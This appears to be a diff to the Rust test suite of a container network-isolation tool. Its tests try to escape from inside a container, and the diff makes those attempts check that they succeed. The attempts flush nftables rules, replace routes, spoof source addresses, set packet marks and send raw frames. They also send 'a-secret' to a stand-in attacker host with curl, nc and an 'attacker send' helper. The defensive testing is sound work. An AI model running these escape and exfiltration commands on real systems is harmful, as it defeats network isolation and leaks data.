@@ -25,15 +25,16 @@ pub(crate) const TESTS: &[Test] = &[
 fn flush(bed: &Bed) {
     let container = bed.sleeper(ARMED);
     nothing_leaks_while(bed, &container, || {
-        container.exec(
-            "nft flush ruleset; nft add table inet mine; ip rule flush; ip rule add lookup main;
-             ip route replace 203.0.113.0/24 dev eth0; ip route replace 198.51.100.20/32 dev eth0 onlink",
-        );
+        container
+            .exec(
+                "set -e; nft flush ruleset; nft add table inet mine; /bin/ip rule flush; /bin/ip rule add lookup main
+             /bin/ip route replace 203.0.113.0/24 dev eth0; /bin/ip route replace 198.51.100.20/32 via 172.17.0.1 dev eth0 onlink",
+            )
+            .must_succeed();
         for target in ["203.0.113.66:22", "198.51.100.20:22", "203.0.113.66:8080"] {
-            let said = container.exec(&format!("attacker probe tcp {target}")).stdout;
-            assert!(!said.starts_with("connected"), "{target}: {said}");
+            container.is_shut_out(&format!("tcp {target}"));
         }
-        container.exec("ip route flush 203.0.113.0/24; ip route flush 198.51.100.20/32");
+        container.exec("/bin/ip route flush 203.0.113.0/24; /bin/ip route flush 198.51.100.20/32").must_succeed();
         denied_probes(&container);
     });
 }
@@ -42,13 +43,15 @@ fn foreign_addresses(bed: &Bed) {
     let container = bed.sleeper(ARMED);
     nothing_leaks_while(bed, &container, || {
         container.exec(
-            "ip addr add 198.51.100.77/32 dev eth0; ip addr add 172.17.99.99/16 dev eth0; ip addr add 2001:db8:7::7/64 dev eth0;
-             ip link add link eth0 name ev0 type macvlan; ip link set ev0 up;
-             ip link add link eth0 name ev1 type vlan id 7; ip link set ev1 up",
-        );
+            "set -e; /bin/ip addr add 198.51.100.77/32 dev eth0; /bin/ip addr add 172.17.99.99/16 dev eth0; /bin/ip addr add 2001:db8:7::7/64 dev eth0;
+             /bin/ip link add link eth0 name ev0 type macvlan; /bin/ip link set ev0 up",
+        )
+        .must_succeed();
         for source in ["198.51.100.77", "172.17.99.99"] {
             container.exec(&format!("curl -sS -m 2 --interface {source} http://{}/", ATTACKER.v4)).must_fail();
-            container.exec(&format!("echo x | timeout 2 nc -u -w 1 -s {source} {} 9999", ATTACKER.v4));
+            let send = format!("attacker send udp {}:9999 a-secret from {source}", ATTACKER.v4);
+            let said = container.exec(&send);
+            assert!(said.must_succeed().stdout.starts_with("sent"), "the attack failed by itself: {said:?}");
         }
     });
 }
@@ -72,8 +75,11 @@ fn default_frames(bed: &Bed) {
     for runtime in RUNTIMES {
         let container = bed.start_with(runtime, &[], &["sleep", "600"]);
         nothing_leaks_while(bed, &container, || {
-            container.exec(&format!("attacker frames eth0 {0} a-secret; attacker raw {0} a-secret", ATTACKER.v4));
+            // First: the kernel sends only so many refusals a second.
             denied_probes(&container);
+            let said =
+                container.exec(&format!("attacker frames eth0 {0} a-secret && attacker raw {0} a-secret", ATTACKER.v4));
+            assert!(said.must_succeed().stdout.contains("bypass true: sent"), "the attack failed by itself: {said:?}");
         });
     }
 }
@@ -105,10 +111,11 @@ fn mark(bed: &Bed) {
     let container = bed.sleeper(ARMED);
     nothing_leaks_while(bed, &container, || {
         container.exec(
-            "nft add table inet m; nft add chain inet m o '{ type route hook output priority 0; }';
+            "set -e; nft add table inet m; nft add chain inet m o '{ type route hook output priority 0; }';
              for mark in 1 2 0x10 0xb0 0xff 0xffffffff; do nft flush chain inet m o; nft add rule inet m o meta mark set $mark;
              attacker probe tcp 203.0.113.66:22; done; nft flush ruleset",
-        );
+        )
+        .must_succeed();
     });
 }
 
